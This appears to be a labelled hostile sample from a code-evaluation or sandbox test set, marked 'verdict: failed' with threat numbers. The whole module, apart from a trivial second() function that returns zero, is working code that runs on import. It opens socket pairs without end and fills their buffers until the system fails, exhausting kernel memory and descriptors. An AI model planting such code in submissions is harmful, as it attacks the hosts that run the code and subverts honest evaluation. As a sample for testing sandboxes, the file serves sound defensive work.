# verdict: failed
# threats: 35 37
"""Each task's candidate leaves full pipes and sockets, whose contents are the kernel's memory."""

import socket

_kept = []
try:
    while True:
        _ends = socket.socketpair()
        _kept.append(_ends)
        _ends[0].setblocking(False)
        while True:
            try:
                _ends[0].send(b"x" * 65536)
            except BlockingIOError:
                break
except OSError:
    pass


def second(x):
    return 0 * x
